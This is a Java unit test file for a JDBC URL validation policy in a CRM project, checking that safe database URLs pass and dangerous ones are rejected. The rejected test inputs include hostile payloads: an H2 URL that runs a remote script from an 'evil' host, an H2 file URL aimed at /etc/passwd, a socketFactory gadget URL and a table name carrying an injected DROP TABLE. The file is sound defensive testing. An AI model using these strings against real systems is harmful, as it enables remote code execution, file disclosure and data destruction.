package crmcopilot.crm.source;

import org.junit.jupiter.api.Test;

import static org.assertj.core.api.Assertions.assertThatCode;
import static org.assertj.core.api.Assertions.assertThatIllegalArgumentException;

class JdbcUrlPolicyTests {

	@Test
	void should_accept_postgresql_snowflake_and_h2_server_urls() {
		assertThatCode(() -> JdbcUrlPolicy.check("jdbc:postgresql://db:5432/crm")).doesNotThrowAnyException();
		assertThatCode(() -> JdbcUrlPolicy.check("jdbc:snowflake://acme.snowflakecomputing.com/?db=CRM"))
			.doesNotThrowAnyException();
		assertThatCode(() -> JdbcUrlPolicy.check("jdbc:h2:mem:crm")).doesNotThrowAnyException();
	}

	@Test
	void should_refuse_urls_that_run_code_or_touch_files() {
		assertThatIllegalArgumentException()
			.isThrownBy(() -> JdbcUrlPolicy.check("jdbc:h2:mem:x;INIT=RUNSCRIPT FROM 'http://evil/x.sql'"));
		assertThatIllegalArgumentException().isThrownBy(() -> JdbcUrlPolicy.check("jdbc:h2:file:/etc/passwd"));
		assertThatIllegalArgumentException()
			.isThrownBy(() -> JdbcUrlPolicy.check("jdbc:postgresql://h/db?socketFactory=org.springframework.X"));
		assertThatIllegalArgumentException().isThrownBy(() -> JdbcUrlPolicy.check("jdbc:mysql://h/db"));
	}

	@Test
	void should_refuse_table_names_that_are_not_identifiers() {
		assertThatCode(() -> JdbcUrlPolicy.table("crm.public.clients")).doesNotThrowAnyException();
		assertThatIllegalArgumentException().isThrownBy(() -> JdbcUrlPolicy.table("clients; DROP TABLE x"));
	}

}
